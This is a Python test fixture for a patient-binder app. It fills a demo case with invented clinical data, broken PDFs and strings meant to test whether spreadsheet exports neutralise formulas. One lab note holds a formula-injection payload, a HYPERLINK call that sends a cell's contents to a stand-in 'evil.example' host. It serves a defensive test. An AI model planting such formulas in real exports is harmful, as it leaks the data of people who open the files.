"""A rich binder for the interop tests: the demo's case, with every optional fact filled in,
a done and a cancelled visit, an unreadable file, the health facts (a current and a stopped
medication, an allergy, a condition, a treatment, a marker's trend) and structured cancer
facts on an opinion, and text that spreadsheets would run."""

from __future__ import annotations

from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from carebinder import config, demo
from carebinder.choices import (
    AllergyKind,
    AppointmentStatus,
    Interpretation,
    Laterality,
    MaterialStatus,
    MedicationKind,
    Purpose,
    RecordKind,
    Severity,
    StagingBasis,
    TreatmentKind,
)
from carebinder.models import File, Patient
from carebinder.services import (
    allergies,
    appointments,
    conditions,
    doctors,
    files,
    materials,
    medications,
    opinions,
    patients,
    questions,
    records,
    results,
    treatments,
)
from carebinder.store import Store
from tests.packet.oddfiles import ODD_PDFS

TODAY = date(2026, 11, 24)
NEW_YORK = ZoneInfo("America/New_York")

# Text a spreadsheet would run as a formula, and text that only looks like it.
FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
PHONE = "+1 617 555 0100"


@pytest.fixture
def rich(
    session: Session,
    settings: config.Settings,
    store: Store,
    make_file: Callable[[str, bytes], Path],
) -> Patient:
    """The demo binder with nothing left empty (committed)."""
    summary = demo.build(session, settings, today=TODAY)
    patient = session.scalars(select(Patient)).one()
    pid = patient.id
    patients.edit_patient(session, patient, address="12 Harbor St, Apt 3\nSalem, MA 01970")
    gp = doctors.list_doctors(session, pid)[0]
    doctors.edit_doctor(
        session,
        gp,
        npi="1234567893",
        email="hpark@riverside.example.org",
        address="1 Main St\nSalem, MA",
        notes="Knows the family.\nCall before 5 pm.",
        phone=PHONE,
    )
    lab = records.list_records(session, pid, kind=RecordKind.LAB)[0]
    records.edit_record(session, lab, notes=FORMULA_NOTE)
    # A PDF with a page too small to print, and one whose list of pages is damaged.
    odd = {o.name: o for o in ODD_PDFS}
    speck, repaired = make_file("speck.pdf", b""), make_file("odd-kid.pdf", b"")
    odd["speck.pdf"].make(speck)
    odd["odd-kid.pdf"].make(repaired)
    files.attach_files(
        session,
        store,
        lab,
        [make_file("broken.pdf", b"%PDF-1.4\nnot really a PDF"), speck, repaired],
    )
    first, second = session.scalars(select(File).order_by(File.id).limit(2))
    first.has_text, second.has_text = True, False  # as the search's text reader sets them
    for opinion in opinions.list_opinions(session, pid):
        opinions.edit_opinion(session, opinion, notes=f"Said on the phone (#{opinion.id}).")
    visit = appointments.get_appointment(session, pid, summary.appointment_id)
    appointments.edit_appointment(session, visit, notes="Parking: garage B.\n-2 floor.")
    surgeon = doctors.list_doctors(session, pid)[1]
    done = appointments.add_appointment(
        session,
        pid,
        doctor=surgeon.id,
        starts_at=datetime(2026, 10, 20, 14, 0, tzinfo=NEW_YORK),
        time_zone="America/New_York",
        location="Mercy General Hospital, Breast Center",
        purpose=Purpose.FOLLOW_UP,
        companion="Marco Souza",
        notes="Biopsy results.",
    )
    appointments.edit_appointment(session, done, status=AppointmentStatus.DONE)
    cancelled = appointments.add_appointment(
        session,
        pid,
        doctor=surgeon.id,
        starts_at=datetime(2026, 12, 10, 11, 0, tzinfo=NEW_YORK),
        time_zone="America/New_York",
        purpose=Purpose.TREATMENT,
    )
    appointments.edit_appointment(session, cancelled, status=AppointmentStatus.CANCELLED)
    asked = questions.add_question(session, pid, text="@SUM(1+1) is not a formula here?")
    questions.answer_question(
        session, asked, answer="-12.5 is a number.", by=surgeon.id, on=date(2026, 10, 20)
    )
    slides = materials.list_materials(session, pid)[0]
    for status, day in (
        (MaterialStatus.RECEIVED, date(2026, 11, 20)),
        (MaterialStatus.SENT, date(2026, 11, 21)),
        (MaterialStatus.RETURNED, date(2026, 12, 20)),
    ):
        materials.update_material(session, slides, status=status, on=day)
    add_health_facts(session, pid, gp.id, surgeon.id, lab.id)
    session.commit()
    return patient


# A marker's value a spreadsheet would read as a formula, and one that only looks like it.
FORMULA_VALUE = "=2+3"
NEGATIVE_VALUE = "-0.5"


def add_health_facts(session: Session, pid: int, gp: int, surgeon: int, lab: int) -> None:
    """Every column of the health facts filled in somewhere, and the newest opinion's
    structured cancer facts."""
    medications.add_medication(
        session,
        pid,
        name="Letrozole",
        dose="2.5 mg",
        how="by mouth, once a day",
        kind=MedicationKind.PRESCRIPTION,
        started=date(2026, 11, 2),
        reason="Neoadjuvant endocrine therapy",
        prescriber=gp,
        notes="Take with food.",
    )
    medications.add_medication(
        session,
        pid,
        name="Vitamin D3",
        dose="1000 IU",
        kind=MedicationKind.SUPPLEMENT,
        started=date(2024, 1, 1),
        stopped=date(2026, 10, 1),
    )
    allergies.add_allergy(
        session,
        pid,
        substance="Sulfonamides",
        reaction="Hives",
        severity=Severity.SEVERE,
        kind=AllergyKind.MEDICATION,
        notes="As a child.",
    )
    conditions.add_condition(
        session, pid, name="Hypertension", since=date(2015, 6, 1), notes="On amlodipine."
    )
    treatments.add_treatment(
        session,
        pid,
        kind=TreatmentKind.SURGERY,
        name="Core needle biopsy",
        started=date(2026, 10, 14),
        ended=date(2026, 10, 14),
        doctor=surgeon,
        response="Diagnostic",
        notes="Left breast, 10 o'clock.",
    )
    for value, on in (("45", date(2026, 10, 1)), ("38", date(2026, 11, 1))):
        results.add_result(
            session,
            pid,
            name="CEA",
            value=value,
            unit="ng/mL",
            on=on,
            record=lab,
            interpretation=Interpretation.HIGH,
            notes="Fasting.",
        )
    results.add_result(session, pid, name="PD-L1", value=NEGATIVE_VALUE, notes=FORMULA_VALUE)
    results.add_result(session, pid, name="MSI", value=FORMULA_VALUE)
    newest = opinions.list_opinions(session, pid)[-1]
    opinions.edit_opinion(
        session,
        newest,
        site="Breast, upper outer quadrant",
        laterality=Laterality.LEFT,
        histology="Invasive ductal carcinoma",
        grade="G2",
        t="pT2",
        n="N1a",
        m="M0",
        staging=StagingBasis.PATHOLOGIC,
        ajcc_edition=8,
        ecog=0,
    )
